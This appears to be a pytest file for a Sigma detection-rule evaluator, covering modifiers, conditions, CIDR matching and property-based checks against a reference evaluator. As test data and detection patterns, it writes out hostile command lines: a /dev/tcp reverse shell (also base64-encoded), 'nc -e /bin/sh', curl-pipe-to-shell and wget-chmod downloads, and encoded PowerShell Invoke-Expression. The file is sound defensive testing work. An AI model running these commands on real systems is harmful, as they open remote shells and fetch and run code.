"""Every modifier and condition form, each with an event that matches and one that does not."""

from __future__ import annotations

import base64
import textwrap

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provarmor.model.actions import Action
from provarmor.model.event import Endpoint, User
from provarmor.testing.factories import make_event


def rule(detection: str, *, logsource: str = "category: process_creation") -> str:
    body = textwrap.indent(textwrap.dedent(detection).strip(), "    ")
    return (
        "title: test rule\nid: 5f1c0e8e-0000-4000-8000-000000000001\n"
        f"logsource:\n    product: linux\n    {logsource}\ndetection:\n{body}\nlevel: high\n"
    )


@pytest.fixture
def fires(sigma, exec_of):
    """fires(detection, command_line, **exec fields) -> did the rule match that exec?"""

    def check(detection: str, command_line: str = "", **fields) -> bool:
        detector = sigma(rule(detection))
        return bool(detector.on_event(exec_of(command_line, **fields)))

    return check


def test_plain_value_matches_whole_field_case_insensitively(fires):
    detection = "sel:\n  Image: '/USR/BIN/WGET'\ncondition: sel"
    assert fires(detection, "wget x", exe="/usr/bin/wget")
    assert not fires(detection, "wget x", exe="/usr/bin/wget2")


def test_wildcards_star_and_question_mark(fires):
    detection = "sel:\n  Image: '/usr/*/wg?t'\n  CommandLine: 'curl * | sh'\ncondition: sel"
    assert fires(detection, "curl http://x | sh", exe="/usr/local/bin/wget")
    assert not fires(detection, "curl http://x | sh", exe="/usr/local/bin/wgeet")
    assert not fires(detection, "curl http://x | bash", exe="/usr/local/bin/wget")


def test_escaped_wildcard_is_literal(fires):
    detection = "sel:\n  CommandLine: 'echo \\*'\ncondition: sel"
    assert fires(detection, "echo *")
    assert not fires(detection, "echo a")


def test_contains_startswith_endswith(fires):
    assert fires("sel:\n  CommandLine|contains: 'BASE64 -D'\ncondition: sel", "x | base64 -d | sh")
    assert not fires("sel:\n  CommandLine|contains: 'base64 -d'\ncondition: sel", "base64 -e")
    assert fires("sel:\n  CommandLine|startswith: 'sh -c'\ncondition: sel", "sh -c id")
    assert not fires("sel:\n  CommandLine|startswith: 'sh -c'\ncondition: sel", "bash -c id")
    assert fires("sel:\n  Image|endswith: '/nc'\ncondition: sel", "nc -l", exe="/bin/nc")
    assert not fires("sel:\n  Image|endswith: '/nc'\ncondition: sel", "x", exe="/bin/ncat")


def test_value_list_is_or_and_map_is_and(fires):
    detection = "sel:\n  Image|endswith: ['/curl', '/wget']\n  CommandLine|contains: '/tmp/'\n"
    detection += "condition: sel"
    assert fires(detection, "wget -O /tmp/x http://h", exe="/usr/bin/wget")
    assert fires(detection, "curl -o /tmp/x http://h", exe="/usr/bin/curl")
    assert not fires(detection, "curl -o /var/x http://h", exe="/usr/bin/curl")
    assert not fires(detection, "scp /tmp/x h:", exe="/usr/bin/scp")


def test_all_modifier_requires_every_value(fires):
    detection = "sel:\n  CommandLine|contains|all: ['s_client', '-connect']\ncondition: sel"
    assert fires(detection, "openssl s_client -quiet -connect 1.2.3.4:443")
    assert not fires(detection, "openssl s_client -quiet")


def test_re_is_case_sensitive_unanchored_search(fires):
    detection = "sel:\n  CommandLine|re: '\\s-O\\s'\ncondition: sel"
    assert fires(detection, "wget -O /tmp/x http://h")
    assert not fires(detection, "wget -o /tmp/x http://h")


@pytest.mark.parametrize(
    ("flags", "pattern", "command_line", "expected"),
    [
        ("i", "^WGET", "wget x", True),
        ("", "^WGET", "wget x", False),
        ("m", "^second$", "first\nsecond\nthird", True),
        ("", "^second$", "first\nsecond\nthird", False),
        ("s", "first.second", "first\nsecond", True),
        ("", "first.second", "first\nsecond", False),
    ],
)
def test_re_flags(fires, flags, pattern, command_line, expected):
    modifiers = "|re" + (f"|{flags}" if flags else "")
    detection = f"sel:\n  CommandLine{modifiers}: '{pattern}'\ncondition: sel"
    assert fires(detection, command_line) is expected


def test_base64_matches_the_encoded_value(fires):
    detection = "sel:\n  CommandLine|base64|contains: 'bash -i'\ncondition: sel"
    encoded = base64.b64encode(b"bash -i").decode()
    assert fires(detection, f"echo {encoded} | base64 -d | sh")
    assert not fires(detection, "echo YmFzaCAtYw== | base64 -d | sh")  # "bash -c"


def test_base64offset_finds_the_value_at_any_offset(fires):
    detection = "sel:\n  CommandLine|base64offset|contains: '/dev/tcp/'\ncondition: sel"
    for prefix in ("", "x", "xy"):
        payload = base64.b64encode(f"{prefix}bash -i >& /dev/tcp/10.0.0.1/4444".encode())
        assert fires(detection, f"echo {payload.decode()} | base64 -d | bash"), prefix
    assert not fires(detection, "echo aGVsbG8gd29ybGQ= | base64 -d")


def test_utf16_base64offset_matches_encoded_wide_text(fires):
    detection = "sel:\n  CommandLine|utf16le|base64offset|contains: 'Invoke'\ncondition: sel"
    payload = base64.b64encode("IEX; Invoke-Expression".encode("utf-16le")).decode()
    assert fires(detection, f"pwsh -enc {payload}")
    assert not fires(detection, f"pwsh -enc {base64.b64encode(b'Invoke').decode()}")


def test_windash_accepts_slash_and_unicode_dashes(fires):
    detection = "sel:\n  CommandLine|windash|contains: ' -f '\ncondition: sel"
    assert fires(detection, "tool -f x")
    assert fires(detection, "tool /f x")
    assert fires(detection, "tool \u2013f x")
    assert not fires(detection, "tool +f x")


def test_exists(fires):
    assert fires(
        "sel:\n  ParentCommandLine|exists: true\ncondition: sel", "x", parent_command_line="bash"
    )
    assert not fires("sel:\n  ParentCommandLine|exists: true\ncondition: sel", "x")
    assert fires("sel:\n  ParentCommandLine|exists: false\ncondition: sel", "x")


def test_null_matches_a_missing_field(fires):
    assert fires("sel:\n  CurrentDirectory: null\ncondition: sel", "x")
    assert not fires("sel:\n  CurrentDirectory: null\ncondition: sel", "x", cwd="/tmp")


def test_empty_string_matches_a_missing_field(fires):
    assert fires("sel:\n  CurrentDirectory: ''\ncondition: sel", "x")
    assert not fires("sel:\n  CurrentDirectory: ''\ncondition: sel", "x", cwd="/tmp")


@pytest.mark.parametrize(
    ("modifier", "limit", "expected"),
    [
        ("gt", 99, True),
        ("gt", 100, False),
        ("gte", 100, True),
        ("lt", 100, False),
        ("lte", 100, True),
    ],
)
def test_numeric_comparisons(fires, modifier, limit, expected):
    detection = f"sel:\n  ProcessId|{modifier}: {limit}\ncondition: sel"
    assert fires(detection, "x", pid=100) is expected


def test_number_value_equals_its_text(fires):
    assert fires("sel:\n  ProcessId: 4242\ncondition: sel", "x", pid=4242)
    assert not fires("sel:\n  ProcessId: 4242\ncondition: sel", "x", pid=424)


def test_cased_matches_exact_case_only(fires):
    detection = "sel:\n  CommandLine|cased|contains: 'PASSWORD'\ncondition: sel"
    assert fires(detection, "grep PASSWORD /etc/app.conf")
    assert not fires(detection, "grep password /etc/app.conf")


def test_fieldref_compares_two_fields(fires):
    detection = "sel:\n  Image|fieldref: ParentImage\ncondition: sel"
    assert fires(detection, "bash", exe="/usr/bin/bash", parent_exe="/USR/BIN/BASH")
    assert not fires(detection, "bash", exe="/usr/bin/bash", parent_exe="/usr/sbin/sshd")


def test_neq_negates_the_value(fires):
    detection = "sel:\n  Image|endswith: '/sh'\n  User|neq: root\ncondition: sel"
    assert fires(detection, "sh", exe="/bin/sh", user="alice")
    assert not fires(detection, "sh", exe="/bin/sh", user="root")


def test_keywords_search_the_command_line(fires):
    detection = "keywords:\n  - 'bash -i >& /dev/tcp/'\n  - 'nc -e /bin/sh '\ncondition: keywords"
    assert fires(detection, "sh -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    assert not fires(detection, "bash -i")


def test_keywords_with_wildcards_and_all(fires):
    detection = "kw:\n  '|all':\n    - 'wget *; chmod +x'\n    - '/tmp/'\ncondition: kw"
    assert fires(detection, "sh -c wget http://h/x -O /tmp/x; chmod +x /tmp/x")
    assert not fires(detection, "sh -c wget http://h/x -O /tmp/x")


def test_number_keywords_match_text(fires):
    detection = "sel:\n  Image|endswith: '/init'\nlevels:\n  - 0\n  - 6\ncondition: sel and levels"
    assert fires(detection, "init 6", exe="/sbin/init")
    assert not fires(detection, "init 3", exe="/sbin/init")


CONDITIONS = {
    "sel_a and sel_b": {(True, True): True, (True, False): False, (False, True): False},
    "sel_a or sel_b": {(True, False): True, (False, True): True, (False, False): False},
    "sel_a and not sel_b": {(True, False): True, (True, True): False, (False, False): False},
    "not (sel_a or sel_b)": {(False, False): True, (True, False): False},
    "1 of sel_*": {(True, False): True, (False, True): True, (False, False): False},
    "all of sel_*": {(True, True): True, (True, False): False},
    "1 of them": {(False, True): True, (False, False): False},
    "all of them": {(True, True): True, (False, True): False},
    "sel_a and not 1 of filter*": {(True, False): True, (True, True): False},
}


@pytest.mark.parametrize("condition", sorted(CONDITIONS))
def test_condition_forms(fires, condition):
    selections = "sel_a:\n  CommandLine|contains: 'alpha'\n"
    if "filter" in condition:
        selections += "filter_b:\n  CommandLine|contains: 'beta'\n"
    else:
        selections += "sel_b:\n  CommandLine|contains: 'beta'\n"
    for (a, b), expected in CONDITIONS[condition].items():
        command_line = " ".join(["x", "alpha" if a else "", "beta" if b else ""])
        assert fires(f"{selections}condition: {condition}", command_line) is expected, (a, b)


def test_several_conditions_are_ored(sigma, exec_of):
    text = rule(
        "a:\n  CommandLine|contains: 'alpha'\nb:\n  CommandLine|contains: 'beta'\n"
        "condition:\n  - a\n  - b"
    )
    detector = sigma(text)
    assert detector.on_event(exec_of("beta"))
    assert not detector.on_event(exec_of("gamma"))


def test_cidr_and_initiated_on_network_events(sigma):
    detection = (
        "sel:\n  Initiated: 'true'\n  DestinationPort: 4444\n"
        "local:\n  DestinationIp|cidr: ['10.0.0.0/8', 'fc00::/7']\n"
        "condition: sel and not local"
    )
    detector = sigma(rule(detection, logsource="category: network_connection"))
    assert detector.on_event(make_event(Action.CONNECT, ip="93.184.216.34", port=4444))
    assert not detector.on_event(make_event(Action.CONNECT, ip="10.1.2.3", port=4444))
    assert not detector.on_event(make_event(Action.CONNECT, ip="fd00::1", port=4444))
    assert not detector.on_event(make_event(Action.ACCEPT, ip="93.184.216.34", port=4444))
    assert not detector.on_event(make_event(Action.CONNECT, ip="93.184.216.34", port=443))


def test_ipv4_mapped_ipv6_address_is_in_ipv4_network(sigma):
    detection = "sel:\n  DestinationIp|cidr: '127.0.0.0/8'\ncondition: sel"
    detector = sigma(rule(detection, logsource="category: network_connection"))
    assert detector.on_event(make_event(Action.CONNECT, ip="::ffff:127.0.0.1", port=80))
    assert not detector.on_event(make_event(Action.CONNECT, ip="::ffff:8.8.8.8", port=80))


@pytest.mark.parametrize(
    ("detection", "reason"),
    [
        ("sel:\n  CommandLine|wide: 'cmd'\ncondition: sel", "UTF-16"),
        ("sel:\n  CommandLine|expand: '%servers%'\ncondition: sel", "placeholder"),
        ("sel:\n  Hashes|contains: 'MD5='\ncondition: sel", "field 'Hashes'"),
    ],
)
def test_what_cannot_be_evaluated_is_unsupported_with_a_reason(sigma_report, detection, reason):
    report = sigma_report(rule(detection))
    assert not report.loaded
    assert len(report.unsupported) == 1
    assert reason in report.unsupported[0].reason


def test_user_field_knows_root_by_uid(sigma, exec_of):
    detector = sigma(rule("sel:\n  User: root\ncondition: sel"))
    event = exec_of("id")
    process = msgspec.structs.replace(event.process, user=User(id="0"))
    assert detector.on_event(msgspec.structs.replace(event, process=process))
    assert not detector.on_event(exec_of("id", user="alice"))


# ------------------------------------------------ agreement with a naive reference evaluator

FIELDS = {
    "Image": "exe",
    "CommandLine": "command_line",
    "ParentImage": "parent_exe",
    "CurrentDirectory": "cwd",
    "User": "user",
}
MODIFIERS = ["", "contains", "startswith", "endswith"]
rule_values = st.text(alphabet="aAb/-", min_size=1, max_size=3)
event_values = st.text(alphabet="aAb/ -", max_size=6)


@st.composite
def selections(draw):
    """A selection: field -> (modifier, all?, values) or None for null."""
    fields = draw(st.lists(st.sampled_from(sorted(FIELDS)), min_size=1, max_size=2, unique=True))
    selection: dict[str, tuple[str, bool, list[str]] | None] = {}
    for field in fields:
        if draw(st.integers(0, 9)) == 0:
            selection[field] = None
            continue
        modifier = draw(st.sampled_from(MODIFIERS))
        values = draw(st.lists(rule_values, min_size=1, max_size=3))
        selection[field] = (modifier, len(values) > 1 and draw(st.booleans()), values)
    return selection


def conditions(names):
    leaves = st.sampled_from(names).map(lambda name: ("sel", name)) | st.just(("them",))
    return st.recursive(
        leaves,
        lambda inner: (
            st.tuples(st.just("not"), inner)
            | st.tuples(st.sampled_from(["and", "or"]), inner, inner)
        ),
        max_leaves=5,
    )


def render_condition(node):
    if node[0] == "sel":
        return node[1]
    if node[0] == "them":
        return "1 of them"
    if node[0] == "not":
        return f"not ({render_condition(node[1])})"
    return f"({render_condition(node[1])}) {node[0]} ({render_condition(node[2])})"


def render_rule(named, condition):
    lines = []
    for name, selection in named.items():
        lines.append(f"{name}:")
        for field, spec in selection.items():
            if spec is None:
                lines.append(f"  {field}: null")
                continue
            modifier, every, values = spec
            key = field + (f"|{modifier}" if modifier else "") + ("|all" if every else "")
            lines.append(f"  {key}: [{', '.join(repr(v) for v in values)}]")
    lines.append(f"condition: {render_condition(condition)}")
    return rule("\n".join(lines))


def reference_value(value, modifier, wanted):
    if not value:
        return False
    value, wanted = value.lower(), wanted.lower()
    return {
        "": value == wanted,
        "contains": wanted in value,
        "startswith": value.startswith(wanted),
        "endswith": value.endswith(wanted),
    }[modifier]


def reference_selection(selection, event):
    for field, spec in selection.items():
        value = event[FIELDS[field]]
        if spec is None:
            if value:
                return False
            continue
        modifier, every, values = spec
        tests = [reference_value(value, modifier, wanted) for wanted in values]
        if not (all(tests) if every else any(tests)):
            return False
    return True


def reference(node, named, event):
    kind = node[0]
    if kind == "sel":
        return reference_selection(named[node[1]], event)
    if kind == "them":
        return any(reference_selection(selection, event) for selection in named.values())
    if kind == "not":
        return not reference(node[1], named, event)
    left, right = reference(node[1], named, event), reference(node[2], named, event)
    return left and right if kind == "and" else left or right


@st.composite
def cases(draw):
    named = {
        f"sel{i}": draw(selections()) for i in range(draw(st.integers(min_value=1, max_value=3)))
    }
    condition = draw(conditions(sorted(named)))
    events = draw(
        st.lists(st.fixed_dictionaries({key: event_values for key in FIELDS.values()}), max_size=6)
    )
    return named, condition, events


@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(cases())
def test_evaluator_agrees_with_reference(sigma, exec_of, case):
    named, condition, events = case
    detector = sigma(render_rule(named, condition))
    for values in events:
        event = exec_of(
            values["command_line"],
            exe=values["exe"],
            parent_exe=values["parent_exe"],
            cwd=values["cwd"],
            user=values["user"] or None,
        )
        expected = reference(condition, named, values)
        assert bool(detector.on_event(event)) is expected, (values, render_condition(condition))


def test_unix_socket_connects_are_not_network_connections(sigma):
    detector = sigma(
        rule(
            "sel:\n  Image|endswith: /bash\ncondition: sel",
            logsource="category: network_connection",
        )
    )
    unix = msgspec.structs.replace(
        make_event(Action.CONNECT, exe="/usr/bin/bash", ip="203.0.113.1"),
        destination=Endpoint(address="/var/run/nscd/socket"),
    )
    assert not detector.on_event(unix)
    assert detector.on_event(make_event(Action.CONNECT, exe="/usr/bin/bash", ip="203.0.113.1"))
